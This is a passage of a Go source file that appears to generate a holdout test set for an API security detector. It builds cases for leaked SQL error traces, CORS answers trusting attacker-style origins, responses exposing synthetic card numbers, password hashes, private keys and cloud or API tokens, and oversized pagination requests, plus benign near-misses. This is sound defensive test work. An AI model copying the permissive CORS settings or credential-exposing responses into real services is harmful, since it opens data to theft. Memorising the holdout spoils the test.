	{500, "text/plain", "Warning: mysql_fetch_array() expects parameter 1 to be resource, boolean given in /var/www/search.php on line 31\nMySQL Error: Unknown column 'sizes' in 'where clause'"},
	{500, "application/json", `{"error":"pq: syntax error at or near \"Brien\"","code":"42601"}`},
	{500, "application/json", `{"message":"ERROR:  unterminated quoted string at or near \"'\"\nLINE 1: SELECT * FROM products WHERE name = 'O'Brien''\n                                                  ^"}`},
	{500, "application/json", `{"error":"ERROR: invalid input syntax for type integer: \"abc\" (SQLSTATE 22P02)"}`},
	{500, "application/json", `{"error":"pq: relation \"orders_v2\" does not exist"}`},
	{500, "application/json", `{"error":"SQLITE_ERROR: near \"Brien\": syntax error","errno":1,"code":"SQLITE_ERROR"}`},
	{500, "text/plain", "sqlite3.OperationalError: unrecognized token: \"'O'Brien'\""},
	{500, "application/json", `{"error":"Unclosed quotation mark after the character string 'Brien'.\r\nIncorrect syntax near 'Brien'."}`},
	{500, "text/html", "<font face=\"Arial\" size=2><p>Microsoft OLE DB Provider for SQL Server</font> <font face=\"Arial\" size=2>error '80040e14'</font><p><font face=\"Arial\" size=2>Unclosed quotation mark after the character string ''.</font><p><font face=\"Arial\" size=2>/api/search.asp</font>, line 22"},
	{500, "application/json", `{"error":"System.Data.SqlClient.SqlException (0x80131904): Conversion failed when converting the nvarchar value 'abc' to data type int."}`},
	{500, "application/json", `{"error":"ORA-01756: quoted string not properly terminated"}`},
	{500, "application/json", `{"error":"ORA-00933: SQL command not properly ended\nORA-06512: at \"SHOP.PKG_ORDERS\", line 118"}`},
	{500, "application/json", `{"error":"java.sql.SQLSyntaxErrorException: ORA-00904: \"CUSTOMER_NAME\": invalid identifier"}`},
	{500, "application/json", `{"error":"sql: Scan error on column index 3, name \"total\": converting NULL to float64 is unsupported"}`},
	{400, "application/json", `{"error":"org.postgresql.util.PSQLException: ERROR: column \"emial\" does not exist\n  Hint: Perhaps you meant to reference the column \"users.email\".\n  Position: 8"}`},
}

// holdCORS are CORS answers letting a foreign, null or wildcard origin read
// credentialed responses.
var holdCORS = []struct{ origin, acao string }{
	{"https://evil.test", "https://evil.test"},
	{"null", "null"},
	{"https://attacker.example.net", "*"},
	{"https://shop.example.test.evil.test", "https://shop.example.test.evil.test"},
	{"https://evilshop.example.test", "https://evilshop.example.test"},
	{"http://shop.example.test", "http://shop.example.test"},
	{"https://shop-example-test.attacker.example", "https://shop-example-test.attacker.example"},
	{"https://notexample.test", "https://notexample.test"},
	{"null", "null"},
	{"https://evil.test", "https://evil.test"},
	{"https://phish.example.org", "https://phish.example.org"},
	{"https://x.evil.test", "*"},
}

func holdVerboseCases() []holdCase {
	reqs := []holdCase{
		holdGET("https://api.example.test/api/v1/customers?q=O%27Brien"),
		holdGET("https://api.example.test/api/v2/orders/abc"),
		holdJSONReq("POST", "https://api.example.test/api/v1/orders", `{"items":[{"sku":"TS-001","qty":1}],"coupon":"WELCOME10"}`),
		holdGET("https://shop-api.example.test/api/v1/products?sort=sizes"),
		holdJSONReq("PATCH", "https://accounts.example.test/api/v1/users/77", `{"age":"twenty"}`),
		holdGET("https://billing.example.test/api/v1/invoices/INV-2026-0042/pdf"),
		holdFormReq("POST", "https://api.example.test/api/v1/cart", "sku=&qty=1"),
		holdGET("https://api.example.test/api/v1/search?name=D%27Angelo"),
		holdJSONReq("POST", "https://api.example.test/graphql", `{"query":"{ product(id: \"12\") { name price } }"}`),
	}
	var out []holdCase
	for i, b := range holdVerboseBodies {
		c := reqs[i%len(reqs)].resp(b.status, b.body, "Content-Type", b.ct)
		if i%5 == 2 {
			c.rhdr = append(c.rhdr, "X-Powered-By", "Express")
		}
		out = append(out, c.label(holdVerbose))
	}
	// the same traces a second time on other endpoints, as HTML debug output
	// of a staging host promoted to production would show them
	for i := 0; i < 14; i++ {
		b := holdVerboseBodies[(i*5+3)%len(holdVerboseBodies)]
		c := holdGET(fmt.Sprintf("https://%s/api/v1/%s/%d", holdPick(holdHosts, i+2), holdPick([]string{"wishlists", "coupons", "shipments", "stores", "reviews"}, i), 300+i*17)).
			resp(b.status, b.body, "Content-Type", b.ct)
		out = append(out, c.label(holdVerbose))
	}
	for i, o := range holdCORS {
		c := holdGET(fmt.Sprintf("https://api.example.test/api/v1/%s", holdPick([]string{"users/me", "orders?limit=10", "wallet", "addresses"}, i)),
			"Origin", o.origin, "Cookie", "sid=s%3A9f8e7d6c5b4a; theme=dark").
			resp(200, `{"id":"u_1001","email":"jane@example.test","balance":"120.00"}`,
				"Access-Control-Allow-Origin", o.acao, "Access-Control-Allow-Credentials", "true", "Vary", "Origin")
		if i%4 == 3 {
			c.method = "OPTIONS"
			c.hdr = append(c.hdr, "Access-Control-Request-Method", "POST")
			c.status, c.rbody = 204, ""
			c.rhdr = append(c.rhdr, "Access-Control-Allow-Methods", "GET, POST, PUT, DELETE", "Access-Control-Allow-Headers", "Authorization, Content-Type")
		}
		out = append(out, c.label(holdVerbose))
	}
	return out
}

// ---------------------------------------------------------------------------
// detect.exposure.sensitive

// holdCards are test card numbers of the major issuers; each passes Luhn.
var holdCards = []string{
	"4111111111111111", "4242424242424242", "5555555555554444", "5105105105105100", "378282246310005",
	"371449635398431", "6011111111111117", "3530111333300000", "4012888888881881", "5200828282828210",
	"2223003122003222", "36227206271667", "4000056655665556", "6011000990139424", "5425233430109903",
}

func holdLuhn(s string) bool {
	sum, alt := 0, false
	for i := len(s) - 1; i >= 0; i-- {
		c := s[i]
		if c == ' ' || c == '-' {
			continue
		}
		d := int(c - '0')
		if alt {
			d *= 2
			if d > 9 {
				d -= 9
			}
		}
		sum += d
		alt = !alt
	}
	return sum%10 == 0
}

func holdGroup(card string, sep string) string {
	if len(card) == 15 {
		return card[:4] + sep + card[4:10] + sep + card[10:]
	}
	var parts []string
	for i := 0; i < len(card); i += 4 {
		parts = append(parts, card[i:min(i+4, len(card))])
	}
	return strings.Join(parts, sep)
}

// holdHexOf makes deterministic hex or base64-ish material of n characters.
func holdHexOf(seed string, n int) string {
	var s string
	h := sha256.Sum256([]byte(seed))
	for len(s) < n {
		s += hex.EncodeToString(h[:])
		h = sha256.Sum256(h[:])
	}
	return s[:n]
}

func holdAlnumOf(seed string, n int, alphabet string) string {
	h := sha256.Sum256([]byte(seed))
	out := make([]byte, 0, n)
	for len(out) < n {
		for _, b := range h {
			if len(out) == n {
				break
			}
			out = append(out, alphabet[int(b)%len(alphabet)])
		}
		h = sha256.Sum256(h[:])
	}
	return string(out)
}

const (
	holdUpperNum = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
	holdB64Chars = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	holdAlnum    = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	holdDotSlash = "./ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
)

func holdPEM(kind, seed string, lines int) string {
	var b strings.Builder
	b.WriteString("-----BEGIN " + kind + "-----\n")
	for i := 0; i < lines; i++ {
		b.WriteString(holdAlnumOf(fmt.Sprint(seed, i), 64, holdB64Chars) + "\n")
	}
	b.WriteString(holdAlnumOf(seed+"end", 40, holdB64Chars) + "==\n-----END " + kind + "-----\n")
	return b.String()
}

func holdSensitiveBodies() []string {
	var bodies []string
	// card numbers: raw, grouped with spaces or dashes, under card-ish keys,
	// in lists, in CSV exports and in free text
	for k := 0; k < 2*len(holdCards); k++ {
		card, i := holdCards[k%len(holdCards)], k+k/len(holdCards)
		if !holdLuhn(card) {
			panic("holdout: card fails Luhn: " + card)
		}
		switch i % 6 {
		case 0:
			bodies = append(bodies, fmt.Sprintf(`{"id":"pm_%d","type":"card","card":{"number":"%s","exp_month":%d,"exp_year":2029,"cvc":"%03d"}}`, 5000+i, card, i%12+1, 100+i*37))
		case 1:
			bodies = append(bodies, fmt.Sprintf(`{"customer":{"id":%d,"name":"Jane Roe"},"payment_methods":[{"brand":"visa","pan":"%s","holder":"JANE ROE"}]}`, 800+i, holdGroup(card, " ")))
		case 2:
			bodies = append(bodies, fmt.Sprintf(`{"items":[{"order":71002,"cc_number":"%s","amount":"49.90"},{"order":71003,"cc_number":"%s","amount":"12.00"}]}`, holdGroup(card, "-"), holdCards[(i+1)%len(holdCards)]))
		case 3:
			bodies = append(bodies, fmt.Sprintf(`{"transaction":{"id":"tx_%d","status":"captured","source":{"object":"card","cardNumber":"%s","expiry":"04/28"}}}`, 90000+i, card))
		case 4:
			bodies = append(bodies, fmt.Sprintf("order_id,email,card_number,expiry\n71002,jane@example.test,%s,03/28\n71003,li@example.test,%s,11/27\n", card, holdCards[(i+3)%len(holdCards)]))
		default:
			bodies = append(bodies, fmt.Sprintf(`{"ticket":4412,"messages":[{"from":"customer","text":"Please charge my card %s instead, exp 09/27"}]}`, holdGroup(card, " ")))
		}
	}
	// passwords and password hashes
	bcrypt := "$2b$12$" + holdAlnumOf("bc1", 53, holdDotSlash)
	bcrypt2 := "$2a$10$" + holdAlnumOf("bc2", 53, holdDotSlash)
	bcrypt3 := "$2y$10$" + holdAlnumOf("bc3", 53, holdDotSlash)
	argon := "$argon2id$v=19$m=65536,t=3,p=4$" + holdAlnumOf("ar-salt", 22, holdAlnum) + "$" + holdAlnumOf("ar-hash", 43, holdAlnum)
	sha512c := "$6$rounds=5000$" + holdAlnumOf("s6", 16, holdAlnum) + "$" + holdAlnumOf("h6", 86, holdDotSlash)
	pbkdf2 := "pbkdf2_sha256$600000$" + holdAlnumOf("pb-salt", 22, holdAlnum) + "$" + holdAlnumOf("pb", 43, holdB64Chars) + "="
	bodies = append(bodies,
		fmt.Sprintf(`{"id":1001,"email":"jane@example.test","password_hash":"%s","role":"customer"}`, bcrypt),
		fmt.Sprintf(`{"users":[{"id":1,"username":"admin","password":"%s"},{"id":2,"username":"sam","password":"%s"}]}`, bcrypt2, bcrypt3),
		fmt.Sprintf(`{"id":"u_77","login":"ops","hashed_password":"%s"}`, argon),
		fmt.Sprintf(`{"account":{"name":"backup","shadow":"%s"}}`, sha512c),
		fmt.Sprintf(`{"pk":12,"username":"editor","password":"%s","is_staff":true}`, pbkdf2),
		fmt.Sprintf(`{"id":5,"email":"li@example.test","password_sha256":"%s"}`, holdHexOf("sha256pw", 64)),
		fmt.Sprintf(`{"id":6,"email":"old@example.test","passwd":"%s","salt":"%s"}`, holdHexOf("md5pw", 32), holdHexOf("salt", 8)),
		fmt.Sprintf(`{"id":7,"email":"bob@example.test","password_hash":"%s"}`, holdHexOf("sha1pw", 40)),
		`{"id":8,"email":"kim@example.test","password":"Summer2026!","password_confirmation":"Summer2026!"}`,
		`{"smtp":{"host":"smtp.example.test","user":"mailer","password":"Xq7!vR2#pL9z"},"db":{"user":"shop","password":"s3cr3t-Pr0d-DB"}}`,
		fmt.Sprintf(`{"data":[{"type":"users","id":"9","attributes":{"email":"zoe@example.test","encrypted_password":"%s"}}]}`, "$2a$11$"+holdAlnumOf("bc4", 53, holdDotSlash)),
		fmt.Sprintf(`{"id":10,"user":"svc","password_hash":"{SSHA}%s"}`, holdAlnumOf("ssha", 32, holdB64Chars)),
	)
	// private keys
	bodies = append(bodies,
		fmt.Sprintf(`{"id":"key_1","name":"deploy","private_key":%s}`, holdJS(holdPEM("RSA PRIVATE KEY", "rsa1", 6))),
		fmt.Sprintf(`{"ssh":{"user":"deploy","key":%s}}`, holdJS(holdPEM("OPENSSH PRIVATE KEY", "ossh", 5))),
		holdPEM("EC PRIVATE KEY", "ec1", 3),
		fmt.Sprintf(`{"tls":{"cert":%s,"key":%s}}`, holdJS(holdPEM("CERTIFICATE", "crt", 4)), holdJS(holdPEM("PRIVATE KEY", "pk8", 6))),
		fmt.Sprintf(`{"signing_key":%s}`, holdJS(holdPEM("ENCRYPTED PRIVATE KEY", "enc", 5))),
		fmt.Sprintf(`{"pgp":%s}`, holdJS(holdPEM("PGP PRIVATE KEY BLOCK", "pgp", 5))),
		fmt.Sprintf(`{"jwk":{"kty":"RSA","n":"%s","e":"AQAB","d":"%s","p":"%s","q":"%s"}}`, holdRSAModulus, holdAlnumOf("jwk-d", 342, holdAlnum), holdAlnumOf("jwk-p", 171, holdAlnum), holdAlnumOf("jwk-q", 171, holdAlnum)),
	)
	// cloud credentials: AWS, GCP, Azure
	akia := "AKIA" + holdAlnumOf("akia", 16, holdUpperNum)
	asia := "ASIA" + holdAlnumOf("asia", 16, holdUpperNum)
	awsSecret := holdAlnumOf("aws-secret", 40, holdB64Chars)
	gcpKey := "AI" + "za" + "Sy" + holdAlnumOf("gcp", 33, holdAlnum)
	azureKey := holdAlnumOf("azure", 86, holdB64Chars) + "=="
	bodies = append(bodies,
		fmt.Sprintf(`{"aws":{"access_key_id":"%s","secret_access_key":"%s","region":"eu-west-1"}}`, akia, awsSecret),
		fmt.Sprintf(`{"Credentials":{"AccessKeyId":"%s","SecretAccessKey":"%s","SessionToken":"%s","Expiration":"2026-11-20T09:00:00Z"}}`, asia, holdAlnumOf("aws2", 40, holdB64Chars), "IQoJb3JpZ2luX2VjE"+holdAlnumOf("sts", 180, holdB64Chars)),
		fmt.Sprintf("AWS_ACCESS_KEY_ID=%s\nAWS_SECRET_ACCESS_KEY=%s\nAWS_DEFAULT_REGION=us-east-1\n", "AKIA"+holdAlnumOf("akia2", 16, holdUpperNum), holdAlnumOf("aws3", 40, holdB64Chars)),
		fmt.Sprintf(`{"type":"service_account","project_id":"shop-prod-4412","private_key_id":"%s","private_key":%s,"client_email":"api@shop-prod-4412.iam.gserviceaccount.com","client_id":"10482341234512345678"}`, holdHexOf("gsa", 40), holdJS(holdPEM("PRIVATE KEY", "gsa", 6))),
		fmt.Sprintf(`{"maps":{"api_key":"%s"}}`, gcpKey),
		fmt.Sprintf(`{"storage":{"connection_string":"DefaultEndpointsProtocol=https;AccountName=shopprodstore;AccountKey=%s;EndpointSuffix=core.windows.net"}}`, azureKey),
		fmt.Sprintf(`{"azure":{"tenant_id":"72f988bf-86f1-41af-91ab-2d7cd011db47","client_id":"0f4c2a8e-1b6d-4f1e-9c3a-5d7e8f9a0b1c","client_secret":"%s"}}`, holdAlnumOf("azs", 3, holdAlnum)+"8Q~"+holdAlnumOf("azs2", 34, holdAlnum+"_-.")),
		fmt.Sprintf(`{"upload_url":"https://shopprodstore.blob.core.windows.net/uploads?sv=2022-11-02&ss=b&srt=sco&sp=rwdlacup&se=2027-01-01T00:00:00Z&st=2026-11-01T00:00:00Z&spr=https&sig=%s"}`, url.QueryEscape(holdAlnumOf("sas", 43, holdB64Chars)+"=")),
	)
	// API secrets of common services (assembled so this source holds no
	// scannable literal)
	bodies = append(bodies,
		fmt.Sprintf(`{"stripe":{"secret_key":"%s","publishable_key":"pk_live_%s"}}`, "sk_"+"live_"+holdAlnumOf("stripe", 99, holdAlnum), holdAlnumOf("pk", 99, holdAlnum)),
		fmt.Sprintf(`{"integrations":{"github":{"token":"%s"}}}`, "gh"+"p_"+holdAlnumOf("ghp", 36, holdAlnum)),
		fmt.Sprintf(`{"slack":{"bot_token":"%s"}}`, "xo"+"xb-"+"1234567890123-1234567890123-"+holdAlnumOf("slack", 24, holdAlnum)),
		fmt.Sprintf(`{"twilio":{"account_sid":"AC%s","auth_token":"%s"}}`, holdHexOf("tw1", 32), holdHexOf("tw2", 32)),
		fmt.Sprintf(`{"sendgrid_api_key":"%s"}`, "S"+"G."+holdAlnumOf("sg1", 22, holdAlnum)+"."+holdAlnumOf("sg2", 43, holdAlnum)),
		fmt.Sprintf(`{"openai":{"api_key":"%s"}}`, "sk-"+"proj-"+holdAlnumOf("oai", 48, holdAlnum)),
		fmt.Sprintf(`{"gitlab_token":"%s"}`, "glp"+"at-"+holdAlnumOf("gl", 20, holdAlnum)),
		fmt.Sprintf(`{"app":{"client_id":"shop-web","client_secret":"%s"}}`, holdAlnumOf("cs", 48, holdAlnum)),
		fmt.Sprintf(`{"webhook":{"url":"https://hooks.example.com/x","signing_secret":"whsec_%s"}}`, holdAlnumOf("whsec", 32, holdAlnum)),
		fmt.Sprintf("DATABASE_URL=postgres://shop:%s@db.internal:5432/shop\nSECRET_KEY_BASE=%s\nSTRIPE_SECRET_KEY=%s\n", holdAlnumOf("dbpw", 20, holdAlnum), holdHexOf("skb", 128), "sk_"+"live_"+holdAlnumOf("stripe2", 24, holdAlnum)),
		fmt.Sprintf(`{"npm_token":"%s","shopify":{"access_token":"%s"}}`, "np"+"m_"+holdAlnumOf("npm", 36, holdAlnum), "shp"+"at_"+holdHexOf("shp", 32)),
		fmt.Sprintf(`{"mailgun":{"api_key":"key-%s"},"api_secret":"%s"}`, holdHexOf("mg", 32), holdAlnumOf("apisec", 40, holdAlnum)),
	)
	return bodies
}

func holdSensitiveCases() []holdCase {
	reqs := []string{
		"https://api.example.test/api/v1/users/1001",
		"https://api.example.test/api/v1/payment-methods",
		"https://billing.example.test/api/v1/transactions?page=1",
		"https://api.example.test/api/v1/admin/export",
		"https://api.example.test/api/v1/settings/integrations",
		"https://accounts.example.test/api/v1/users?role=admin",
		"https://api.example.test/api/v2/customers/8842?expand=payment_methods",
		"https://api.example.test/api/v1/debug/config",
		"https://cms.example.test/api/v1/support/tickets/4412",
		"https://api.example.test/.env",
	}
	var out []holdCase
	for i, b := range holdSensitiveBodies() {
		ct := "application/json; charset=utf-8"
		if !strings.HasPrefix(b, "{") {
			ct = "text/plain; charset=utf-8"
			if strings.Contains(b, ",") && strings.Contains(b, "card_number") {
				ct = "text/csv"
			}
		}
		c := holdGET(reqs[i%len(reqs)], "Authorization", "Bearer "+holdValidToken(i)).
			resp(200, b, "Content-Type", ct)
		out = append(out, c.label(holdSensitive))
	}
	return out
}

// ---------------------------------------------------------------------------
// detect.resource.limits

func holdLimitCases() []holdCase {
	type lim struct{ name, value string }
	lims := []lim{
		{"limit", "5000"}, {"per_page", "10000"}, {"pageSize", "100000"}, {"page_size", "2000"}, {"size", "99999"},
		{"top", "50000"}, {"$top", "100000"}, {"first", "10000"}, {"count", "1000000"}, {"max_results", "5000"},
		{"maxResults", "25000"}, {"take", "10000"}, {"rows", "10001"}, {"results_per_page", "9999"}, {"limit", "99999999999"},
		{"per_page", "1e6"}, {"pagesize", "65535"}, {"PageSize", "2147483647"}, {"limit", "1000000000"}, {"page[size]", "5000"},
		{"perPage", "20000"}, {"num", "100000"}, {"batch_size", "50000"}, {"limit", "1500"}, {"fetch", "100000"},
		{"pageLimit", "999999"}, {"itemsPerPage", "10000"}, {"hits", "250000"}, {"maxItems", "100000"}, {"limit", "0010000"},
	}
	paths := []string{"/api/v1/products", "/api/v2/orders", "/api/v1/users", "/api/v1/audit-log", "/v2/customers", "/api/v1/reviews", "/api/v1/transactions", "/odata/Products"}
	var out []holdCase
	for i, l := range lims {
		u := fmt.Sprintf("https://%s%s?%s=%s", holdPick(holdHosts, i), holdPick(paths, i), url.QueryEscape(l.name), l.value)
		if i%3 == 1 {
			u += "&page=1"
		}
		c := holdGET(u)
		if i%4 == 0 {
			c = c.resp(400, fmt.Sprintf(`{"error":"invalid_parameter","message":"%s must be between 1 and 100"}`, l.name))
		} else {
			c = c.resp(200, `{"items":[{"id":1},{"id":2},{"id":3}],"has_more":true}`)
			c.rsize = int64(180000 + i*9131)
		}
		out = append(out, c.label(holdLimits))
	}
	// JSON and form bodies, GraphQL variables, nested pagination objects
	bodies := []struct{ method, u, ct, body string }{
		{"POST", "https://api.example.test/api/v1/orders/search", "application/json", `{"filter":{"status":"paid"},"pagination":{"limit":50000,"offset":0}}`},
		{"POST", "https://api.example.test/graphql", "application/json", `{"query":"query($first: Int!) { products(first: $first) { edges { node { id name price } } } }","variables":{"first":100000}}`},
		{"POST", "https://api.example.test/api/v1/users/search", "application/json", `{"query":"*","page":1,"per_page":25000}`},
		{"POST", "https://api.example.test/api/v2/reports/query", "application/json", `{"report":"sales","options":{"pageSize":1000000,"format":"json"}}`},
		{"POST", "https://shop-api.example.test/api/v1/products/list", "application/x-www-form-urlencoded", `category=all&limit=99999&sort=price`},
		{"POST", "https://api.example.test/api/v1/search", "application/json", `{"q":"shoes","size":10000,"from":0}`},
		{"POST", "https://api.example.test/graphql", "application/json", `{"query":"{ orders(last: 50000) { id total } }"}`},
		{"PUT", "https://api.example.test/api/v1/users/me/preferences", "application/json", `{"ui":{"theme":"dark","items_per_page":100000}}`},
		{"POST", "https://billing.example.test/api/v1/invoices/search", "application/json", `{"criteria":[{"field":"status","op":"eq","value":"open"}],"maxResults":500000}`},
		{"POST", "https://api.example.test/api/v1/audit/search", "application/json", `{"limit":"250000","cursor":null}`},
		{"POST", "https://api.example.test/api/v1/export", "application/json", `{"entities":["orders","customers"],"batch":{"take":1000000}}`},
		{"POST", "https://api.example.test/graphql", "application/json", `[{"query":"{ users(limit: 1) { id } }"},{"query":"query($n:Int){ users(limit: $n) { id email } }","variables":{"n":999999}}]`},
		{"GET", "https://api.example.test/api/v1/products/page/1/per_page/100000", "", ``},
		{"GET", "https://api.example.test/api/v1/orders?filter%5Bstatus%5D=open&page%5Bsize%5D=100000&page%5Bnumber%5D=1", "", ``},
		{"GET", "https://api.example.test/odata/Orders?$filter=Status%20eq%20'Open'&$top=999999&$skip=0", "", ``},
		{"GET", "https://api.example.test/api/v1/logs?since=2026-11-01&limit=10000000", "", ``},
		{"GET", "https://shop-api.example.test/v2/search?q=shirt&per_page=5000&page=2", "", ``},
		{"GET", "https://api.example.test/api/v1/customers?limit=100000&limit=10", "", ``},
		{"GET", "https://api.example.test/api/v1/products?Limit=50000", "", ``},
		{"GET", "https://api.example.test/api/v1/transactions?page_size=%31%30%30%30%30%30", "", ``},
		{"GET", "https://api.example.test/api/v1/reviews?pageSize=20000&sort=-created", "", ``},
		{"GET", "https://api.example.test/api/v2/stock?warehouse=AMS&limit=3000", "", ``},
		{"GET", "https://api.example.test/api/v1/users?fields=id,email&per_page=10001", "", ``},
		{"GET", "https://api.example.test/api/v1/notifications?count=75000", "", ``},
		{"GET", "https://api.example.test/api/v1/search?query=a&rows=100000&start=0", "", ``},
		{"GET", "https://api.example.test/api/v1/feed?max=100000", "", ``},
		{"GET", "https://api.example.test/api/v1/activity?take=250000&skip=0", "", ``},
		{"GET", "https://api.example.test/api/v1/addresses?limit=2500", "", ``},
	}
	for i, b := range bodies {
		c := holdReq(b.method, b.u, b.body)
		if b.ct != "" {
			c = c.with("Content-Type", b.ct)
		}
		c = c.resp(200, `{"items":[{"id":"a1"},{"id":"a2"}],"next_cursor":"eyJvZmZzZXQiOjUwMDAwfQ"}`)
		c.rsize = int64(400000 + i*7777)
		out = append(out, c.label(holdLimits))
	}
	// JSON bodies above 10 MiB (captured truncated)
	for i, p := range []string{"/api/v1/orders/bulk-import", "/api/v1/products/batch", "/graphql", "/api/v1/events", "/api/v2/sync"} {
		var b strings.Builder
		b.WriteString(`{"items":[`)
		for j := 0; j < 60; j++ {
			fmt.Fprintf(&b, `{"sku":"SKU-%05d","qty":%d,"note":"%s"},`, j+i*100, j%9+1, holdAlnumOf(fmt.Sprint(p, j), 24, holdAlnum))
		}
		c := holdJSONReq("POST", "https://api.example.test"+p, b.String()).resp(413, `{"error":"payload_too_large"}`)
		if i%2 == 1 {
			c = c.resp(202, `{"status":"accepted","job":"job_8812"}`)
		}
		c.reqSize = int64(11*1024*1024 + i*3*1024*1024)
		out = append(out, c.label(holdLimits))
	}
	return out
}

// ---------------------------------------------------------------------------
// benign traffic: a shop/SaaS API with many near-misses

func holdValidToken(i int) string {
	subs := []string{"1001", "1002", "usr_8842", "usr_1999", "42", "7781", "auth0|65f1c2ab9e", "svc-reporting"}
	roles := []string{`"role":"customer"`, `"role":"customer","scope":"orders:read orders:write"`, `"roles":["editor"]`, `"role":"support"`, `"scope":"read:products"`}
	if i%3 == 0 {
		return holdJWT(`{"alg":"RS256","typ":"JWT","kid":"2026-03-key_1"}`, holdClaims(holdPick(subs, i), holdPick(roles, i/2), holdIat, holdExp), "rs")
	}
	return holdJWT(`{"alg":"HS256","typ":"JWT"}`, holdClaims(holdPick(subs, i), holdPick(roles, i/2), holdIat, holdExp), "hs")
}

var (
	holdPeople = []string{"Aoife O'Brien", "Liam D'Angelo", "Maria Müller", "Chloé Dubois", "Kenji Tanaka", "Priya Natarajan", "John Smith-Jones",
		"Zoë van der Berg", "Mary-Kate O'Neil", "Ngozi Okafor", "Björn Ångström", "Ana María López", "Tomás Ó Briain", "Dr. Alice Wong, PhD",
		"Seán Ó Súilleabháin", "Fatima Al-Hassan", "Nguyễn Văn An", "李小龍", "Olga Petrova", "Jean-Luc Picard"}
	holdSearches = []string{"select chair", "union station poster", "drop-off backpack", "O'Brien jacket", "rock & roll t-shirt",
		"table where legs fold", "order by color", "insert for shoes", "update firmware cable", "delete key keyboard", "null modem cable",
		"100% wool", "kid's shoes", "men's watch", "5' ladder", "24\" monitor", "c# programming book", "join us tee", "from scratch cookbook",
		"group by size", "like new", "select your plan", "script writing kit", "alert bell", "javascript for kids", "<3 mug", "1=1 sticker",
		"or else mug", "and/or sticker", "union jack flag", "drop shipping", "sleep mask", "benchmark tool", "cat; dog toys", "ls -la t-shirt",
		"Hello {{name}} mug", "exec chair", "admin desk", "shell necklace", "char siu sauce", "version 2 case", "where's waldo", "tom & jerry",
		"rock|paper|scissors", "C:\\Users poster", "50% off", "a > b", "2 < 3 math", "#1 dad mug", "sort by price", "etc passwd holder"}
	holdReviews = []string{"<b>Great</b> fit, <i>runs small</i>.", "<p>Love it!</p><p>Would buy again.</p>",
		`See my photos <a href="https://imgur.example.com/a/xyz">here</a>`, "2 > 1 and this is the better one", "Works fine <3",
		"Don't buy the cheap one; get this", "It's 5' tall & sturdy", "<ul><li>fast shipping</li><li>nice box</li></ul>",
		"Color is more blue-ish than on the screen :(", "10/10 would recommend -- my kids' favourite", "The <code>USB-C</code> port is loose",
		`Compared with <a href="https://www.example.org/review">this review</a> it holds up`, "Perfect for my O'Brien family reunion",
		"Size M = EU 48, fits like a glove", "Meh. 3/5. The 'premium' feel isn't there", "<strong>Warning:</strong> smells at first, airs out in a day",
		"&quot;Best purchase of 2026&quot; &mdash; seriously", "<em>Exactly</em> as described <br> thanks!", "<img src=\"https://cdn.example.com/u/123.jpg\" alt=\"my desk\">",
		"Select the larger size; union of comfort and style", "Drop-off was easy at the union station locker", "1=1 is true in math class, and this pen is true quality"}
	holdProducts = []string{"Desk lamp", "Oak side table", "Wool scarf", "USB-C hub 7-in-1", "Espresso cups (set of 4)", "Trail running shoes",
		"Noise cancelling headphones", "Ceramic planter", "Linen shirt", "Yoga mat 6mm", "Mechanical keyboard", "Water bottle 750ml"}
	holdEmails = []string{"jane.roe@example.com", "o'brien.aoife@example.ie", "li.wei+shop@example.cn", "kenji@tanaka.example.jp",
		"first.last@sub.example.co.uk", "ops-team@example.org", "mary_kate@example.net", "user.name+tag+sorting@example.com"}
	holdCities = []string{"Amsterdam", "Dublin", "Berlin", "São Paulo", "Kraków", "New York", "Tokyo", "Cape Town"}
)

func holdOrderNumberNotLuhn(i int) string {
	n := fmt.Sprintf("%016d", 4000000000000000+int64(i)*7919731)
	if holdLuhn(n) {
		last := (n[15]-'0'+1)%10 + '0'
		n = n[:15] + string(last)
	}
	return n
}

func holdProductList(i, n int) string {
	var b strings.Builder
	b.WriteString(`{"items":[`)
	for j := 0; j < n; j++ {
		if j > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"id":%d,"name":%s,"price":"%d.%02d","currency":"EUR","in_stock":%t}`, 1800+i*3+j, holdJS(holdPick(holdProducts, i+j)), 5+(i*7+j)%90, (i*13+j)%100, (i+j)%4 != 0)
	}
	fmt.Fprintf(&b, `],"page":%d,"total":%d}`, i%5+1, 40+i)
	return b.String()
}

func holdBenignTemplates() []func(i int) holdCase {
	tok := func(i int) []string { return []string{"Authorization", "Bearer " + holdValidToken(i)} }
	return []func(i int) holdCase{
		// product search with SQL-, shell- and markup-like words
		func(i int) holdCase {
			return holdGET(fmt.Sprintf("https://api.example.test/api/v1/products?q=%s&page=%d&limit=%d", holdQE(holdPick(holdSearches, i)), i%4+1, holdPick([]int{20, 25, 50, 100}, i))).
				resp(200, holdProductList(i, 3))
		},
		func(i int) holdCase {
			return holdGET(fmt.Sprintf("https://shop-api.example.test/v2/search?q=%s&sort=%s", holdBrowserEsc(holdPick(holdSearches, i*3+1)), holdPick([]string{"price", "-price", "relevance", "created_at", "name"}, i))).
				resp(200, holdProductList(i+3, 2))
		},
		// pagination at and under the bar
		func(i int) holdCase {
			p := holdPick([]string{"limit=50", "per_page=100", "pageSize=25", "page_size=200", "limit=1000", "top=20", "per_page=500", "limit=10&offset=990", "first=100", "count=250", "size=1000", "maxResults=500"}, i)
			return holdGET(fmt.Sprintf("https://api.example.test/api/v2/orders?%s&page=%d", p, i%9+1), tok(i)...).resp(200, holdProductList(i, 2))
		},
		// order details with masked cards and numeric ids
		func(i int) holdCase {
			id := 71000 + i*37
			return holdGET(fmt.Sprintf("https://api.example.test/api/v2/orders/%d", id), tok(i)...).
				resp(200, fmt.Sprintf(`{"id":%d,"order_number":"%s","status":"shipped","total":"%d.90","payment":{"brand":"%s","last4":"%04d","masked":"**** **** **** %04d","exp_month":%d,"exp_year":2028},"shipping":{"city":%s,"tracking":"1Z999AA1%08d"}}`,
					id, holdOrderNumberNotLuhn(i), 20+i%70, holdPick([]string{"visa", "mastercard", "amex"}, i), 4242+i%50, 4242+i%50, i%12+1, holdJS(holdPick(holdCities, i)), 1234567+i*11))
		},
		// login with a password in the request and a valid token in the response
		func(i int) holdCase {
